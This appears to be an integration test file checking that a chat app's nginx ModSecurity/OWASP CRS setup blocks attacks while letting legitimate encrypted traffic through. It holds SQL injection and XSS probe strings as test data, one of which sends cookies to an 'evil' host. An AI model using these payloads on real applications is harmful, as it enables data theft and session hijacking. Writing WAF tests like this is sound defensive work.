import { randomBytes } from 'node:crypto';
import { chmodSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { Server as SocketIoServer } from 'socket.io';
import { io as connectSocketIo, type Socket } from 'socket.io-client';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { freePort, request, type Reply } from './support/net.js';
import { REPO_ROOT, startNginx, type NginxHandle } from './support/nginx.js';
import { startEchoService, type EchoService } from './support/upstreams.js';

let user: EchoService;
let notify: EchoService;
let chatHttp: http.Server;
let chatIo: SocketIoServer;
let chatRequests: Array<{ url: string; bytes: number }>;
let nginx: NginxHandle;
let dir: string;
let httpPort: number;
const sockets: Socket[] = [];

/** chat-service stand-in: plain HTTP routes plus a real Socket.IO server that acks `message:send`. */
async function startChat(): Promise<void> {
  chatRequests = [];
  chatHttp = http.createServer((req, res) => {
    let bytes = 0;
    req.on('data', (c: Buffer) => (bytes += c.length));
    req.on('end', () => {
      chatRequests.push({ url: req.url ?? '', bytes });
      res.setHeader('content-type', 'application/json');
      res.end(JSON.stringify({ service: 'chat-service', url: req.url, bytes }));
    });
  });
  chatIo = new SocketIoServer(chatHttp, { path: '/socket.io/' });
  chatIo.on('connection', (socket) => {
    socket.on(
      'message:send',
      (payload: { envelopes: Array<{ body: string }> }, ack: (r: unknown) => void) => {
        ack({
          ok: true,
          data: {
            messageId: 'm-1',
            bodies: payload.envelopes.map((e) => e.body.length),
            transport: socket.conn.transport.name,
          },
        });
      },
    );
  });
  await new Promise<void>((r) => chatHttp.listen(0, '127.0.0.1', r));
}

beforeAll(async () => {
  dir = mkdtempSync(path.join(tmpdir(), 'cc-prod-'));
  chmodSync(dir, 0o755);
  const cert = process.env.OPS_TLS_CERT!;
  const key = process.env.OPS_TLS_KEY!;
  writeFileSync(path.join(dir, 'index.html'), '<!doctype html><title>CipherChat</title>');
  [user, notify] = await Promise.all([
    startEchoService('user-service'),
    startEchoService('notification-service'),
  ]);
  await startChat();
  httpPort = await freePort();
  nginx = await startNginx('nginx/prod.conf.template', {
    NGINX_HTTP_PORT: String(httpPort),
    USER_UPSTREAM: `server 127.0.0.1:${user.port};`,
    CHAT_UPSTREAM: `server 127.0.0.1:${(chatHttp.address() as AddressInfo).port};`,
    NOTIFY_UPSTREAM: `server 127.0.0.1:${notify.port};`,
    WEB_ROOT: dir,
    TLS_CERT: cert,
    TLS_KEY: key,
    SERVER_NAME: 'localhost',
    MODSEC_MAIN: path.join(REPO_ROOT, 'nginx/modsecurity/main.conf'),
  });
});

afterAll(async () => {
  for (const s of sockets) s.disconnect();
  await nginx?.stop();
  await Promise.all([user?.close(), notify?.close()]);
  if (chatIo) await new Promise((r) => chatIo.close(r));
  if (dir) rmSync(dir, { recursive: true, force: true });
});

const tls = { tls: true } as const;
/** Random base64 that CRS 941100 (libinjection XSS) flags unless nginx/modsecurity excludes it. */
const LIBINJECTION_TRIP =
  'WCiuDdVKqisBm/OnyEMRZAPisXntnTw2QFrCyNzrVZP8745xcyF8nllsS0pkMTZiDVgpsgN6frok2L4C4uiTSg==';
/** Random base64 (a signature) that other CRS rules scored 8, over the blocking threshold. */
const CRS_SCORE_TRIP =
  'syB8wfYojtPO+9TgZ/XNVLwzU6RkBduKefkIEaQOZxqRvtUrmnpm+Uy4wLGeattEfbzTu2FRZFco2Jx0oNUdQg==';
const json = { 'content-type': 'application/json' };

/** nginx's own answer on an API route: the project's JSON error shape with `code`. */
function expectJsonError(res: Reply, status: number, code: string, what: string): void {
  expect(res.status, what).toBe(status);
  expect(res.headers['content-type'], what).toBe('application/json');
  expect((JSON.parse(res.text) as { error: { code: string } }).error.code, what).toBe(code);
  expect(res.headers['strict-transport-security'], what).toBeDefined();
}

describe('prod nginx config with ModSecurity + OWASP CRS (real Debian nginx)', () => {
  it('when the config starts, then ModSecurity has loaded the CRS rules', () => {
    const loaded = /rules loaded inline\/local\/remote: \d+\/(\d+)\/\d+/.exec(nginx.errorLog());
    expect(Number(loaded?.[1])).toBeGreaterThan(500);
  });

  it('when SQL injection probes arrive in query, JSON body or form body, then 403 and the service never sees them', async () => {
    const before = user.seen.length + chatRequests.length;
    const probes: Array<
      [string, { method?: string; body?: string; headers?: Record<string, string> }]
    > = [
      ["/api/user/users?query=1'%20OR%201=1--", {}],
      ['/api/user/users?query=admin%27%20UNION%20SELECT%20password%20FROM%20users--', {}],
      ['/api/chat/conversations?id=1;DROP%20TABLE%20chat.envelopes', {}],
      [
        '/api/user/auth/login/start',
        {
          method: 'POST',
          body: JSON.stringify({
            email: "x' OR '1'='1",
            startLoginRequest: "' UNION SELECT * FROM users.accounts --",
          }),
          headers: json,
        },
      ],
      [
        '/api/user/auth/password-reset/request',
        {
          method: 'POST',
          body: 'email=a%27%20or%201%3D1%20--%20',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
        },
      ],
    ];
    for (const [p, o] of probes) {
      const res = await request(nginx.port, p, { ...tls, ...o });
      // ModSecurity's refusal is an API error like any other.
      expectJsonError(res, 403, 'forbidden', p);
    }
    expect(user.seen.length + chatRequests.length).toBe(before);
  });

  it('when XSS probes arrive in the query string or a JSON body, then 403', async () => {
    const probes: Array<
      [string, { method?: string; body?: string; headers?: Record<string, string> }]
    > = [
      ['/api/user/users?query=%3Cscript%3Ealert(1)%3C/script%3E', {}],
      ['/api/notifications/unsubscribe?token=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E', {}],
      [
        '/api/user/me',
        {
          method: 'PATCH',
          body: JSON.stringify({
            displayName: '<script>document.location="//evil"+document.cookie</script>',
          }),
          headers: json,
        },
      ],
      [
        '/api/chat/conversations',
        {
          method: 'POST',
          body: JSON.stringify({ kind: 'group', memberIds: [], title: '<svg onload=alert(1)>' }),
          headers: json,
        },
      ],
      ['/?q=javascript:alert(document.cookie)', {}],
      // The attachment body is not inspected, but its query string still is.
      [
        '/api/chat/attachments?name=%3Cscript%3Ealert(1)%3C/script%3E',
        { method: 'POST', body: 'x', headers: { 'content-type': 'application/octet-stream' } },
      ],
    ];
    for (const [p, o] of probes) {
      const res = await request(nginx.port, p, { ...tls, ...o });
      expect(res.status, p).toBe(403);
    }
  });

  it('when the app posts JSON with base64 key material, then it passes unchanged (PUT, PATCH and DELETE allowed)', async () => {
    for (let i = 0; i < 40; i += 1) {
      const body = JSON.stringify({
        registrationId: 1000 + i,
        identityKey: randomBytes(33).toString('base64'),
        signedPreKey: {
          keyId: i,
          publicKey: randomBytes(33).toString('base64'),
          // i = 0: a real signature that libinjection once took for an "on...=" XSS attribute;
          // i = 1: one that scored 8 on other CRS rules (a CI run of issue 15)
          signature: [LIBINJECTION_TRIP, CRS_SCORE_TRIP][i] ?? randomBytes(64).toString('base64'),
        },
        preKeys: Array.from({ length: 20 }, (_, k) => ({
          keyId: k,
          publicKey: randomBytes(33).toString('base64'),
        })),
      });
      const res = await request(nginx.port, `/api/chat/devices/d${i}/keys`, {
        ...tls,
        method: 'PUT',
        body,
        headers: json,
      });
      expect(res.status, body).toBe(200);
      expect(JSON.parse(res.text)).toMatchObject({
        service: 'chat-service',
        bytes: Buffer.byteLength(body),
      });
    }
    const backup = JSON.stringify({ version: 3, blob: randomBytes(200_000).toString('base64') });
    expect(
      (
        await request(nginx.port, '/api/chat/backup', {
          ...tls,
          method: 'PUT',
          body: backup,
          headers: json,
        })
      ).status,
    ).toBe(200);
    const login = JSON.stringify({
      email: 'alice@example.org',
      startLoginRequest: randomBytes(96).toString('base64url'),
    });
    expect(
      (
        await request(nginx.port, '/api/user/auth/login/start', {
          ...tls,
          method: 'POST',
          body: login,
          headers: json,
        })
      ).status,
    ).toBe(200);
    expect(
      (
        await request(nginx.port, '/api/user/me', {
          ...tls,
          method: 'PATCH',
          body: '{"displayName":"Alice O\'Brien"}',
          headers: json,
        })
      ).status,
    ).toBe(200);
    expect(
      (await request(nginx.port, '/api/chat/devices/7', { ...tls, method: 'DELETE' })).status,
    ).toBe(200);
    expect((await request(nginx.port, '/api/notifications/preferences', { ...tls })).status).toBe(
      200,
    );
  });

  it('when an encrypted attachment is uploaded as application/octet-stream, then all bytes reach chat-service', async () => {
    const blob = randomBytes(8 * 1024 * 1024);
    const res = await request(nginx.port, '/api/chat/attachments', {
      ...tls,
      method: 'POST',
      body: blob,
      headers: { 'content-type': 'application/octet-stream' },
      timeoutMs: 30_000,
    });
    expect(res.status, nginx.errorLog().slice(-3000)).toBe(200);
    expect(JSON.parse(res.text)).toMatchObject({ bytes: blob.length });
  });

  for (const transport of ['polling', 'websocket'] as const) {
    it(`when a Socket.IO client connects with ${transport} transport and sends base64 envelopes, then it is acked`, async () => {
      const socket = connectSocketIo(`https://127.0.0.1:${nginx.port}`, {
        transports: [transport],
        reconnection: false,
        auth: { deviceId: 'device-1', token: 'eyJhbGciOiJFUzI1NiJ9.e30.sig' },
        timeout: 5000,
      });
      sockets.push(socket);
      await new Promise<void>((resolve, reject) => {
        socket.once('connect', resolve);
        socket.once('connect_error', reject);
      });
      const envelopes = Array.from({ length: 3 }, () => ({
        userId: 'u',
        deviceId: 'd',
        type: 3,
        body: randomBytes(300).toString('base64'),
      }));
      const ack = (await socket
        .timeout(5000)
        .emitWithAck('message:send', { conversationId: 'c', clientMessageId: 'x', envelopes })) as {
        ok: boolean;
        data: { bodies: number[]; transport: string };
      };
      expect(ack.ok).toBe(true);
      expect(ack.data.transport).toBe(transport);
      expect(ack.data.bodies).toEqual(envelopes.map((e) => e.body.length));
      socket.disconnect();
    });
  }

  it('when a client forges X-Forwarded-For, then user-service sees only the address nginx saw', async () => {
    const res = await request(nginx.port, '/api/user/users?query=ann', {
      ...tls,
      headers: { 'x-forwarded-for': '203.0.113.7', 'x-real-ip': '203.0.113.8' },
    });
    expect(res.status).toBe(200);
    const seen = user.seen.at(-1)!;
    expect(seen.url).toBe('/api/user/users?query=ann');
    expect(seen.headers['x-forwarded-for']).toBe('127.0.0.1');
    expect(seen.headers['x-real-ip']).toBe('127.0.0.1');
  });

  it('when served over TLS, then HSTS is set, the CSP allows only wss, and plain HTTP redirects to HTTPS', async () => {
    const res = await request(nginx.port, '/', tls);
    expect(res.status).toBe(200);
    expect(res.headers['strict-transport-security']).toBe('max-age=63072000; includeSubDomains');
    const csp = String(res.headers['content-security-policy']);
    expect(csp).toContain("frame-ancestors 'none'");
    expect(csp).not.toContain('ws://');
    expect(csp).toContain("connect-src 'self' wss://localhost;");
    // The client's Host header never reaches the policy.
    const forgedHost = await request(nginx.port, '/', {
      ...tls,
      headers: { host: 'evil.example' },
    });
    expect(String(forgedHost.headers['content-security-policy'])).not.toContain('evil.example');
    expect(String(forgedHost.headers['content-security-policy'])).toContain('wss://localhost;');
    const redirect = await request(httpPort, '/api/user/me?x=1', {
      headers: { host: 'chat.example.org' },
    });
    expect(redirect.status).toBe(301);
    expect(redirect.headers.location).toBe('https://chat.example.org/api/user/me?x=1');
    // Images from this origin only: attachments are proxied through chat-service.
    expect(csp).toContain("img-src 'self' data: blob:;");
    expect(csp).not.toContain('cloudinary');
  });

  it('when a body is too large or one address floods auth, then 413 and 429 in the JSON shape; pages keep HTML', async () => {
    const tooBig = await request(nginx.port, '/api/user/me', {
      ...tls,
      method: 'PATCH',
      body: Buffer.alloc(2 * 1024 * 1024, 0x61),
      headers: json,
    });
    expectJsonError(tooBig, 413, 'payload_too_large', '/api/user/me');
    // A body the WAF cannot parse (rule 200002) is refused in the same shape.
    const unreadable = await request(nginx.port, '/api/user/me', {
      ...tls,
      method: 'PATCH',
      body: '{"displayName": ',
      headers: json,
    });
    expectJsonError(unreadable, 400, 'validation_error', 'malformed JSON');
    const page = await request(nginx.port, '/', {
      ...tls,
      method: 'POST',
      body: Buffer.alloc(2 * 1024 * 1024, 0x61),
    });
    expect(page.status).toBe(413);
    expect(page.headers['content-type']).toBe('text/html');
    const replies = await Promise.all(
      Array.from({ length: 100 }, () =>
        request(nginx.port, '/api/user/auth/login/start', {
          ...tls,
          method: 'POST',
          body: '{}',
          headers: json,
        }),
      ),
    );
    const limited = replies.filter((r) => r.status === 429);
    expect(limited.length).toBeGreaterThan(0);
    for (const r of limited) expectJsonError(r, 429, 'rate_limited', 'flood');
  });

  // Last: it stops notification-service's stand-in.
  it('when a service is down, then its routes answer 502 in the JSON shape', async () => {
    await notify.close();
    const res = await request(nginx.port, '/api/notifications/preferences', tls);
    expectJsonError(res, 502, 'unavailable', '/api/notifications/preferences');
  });
});
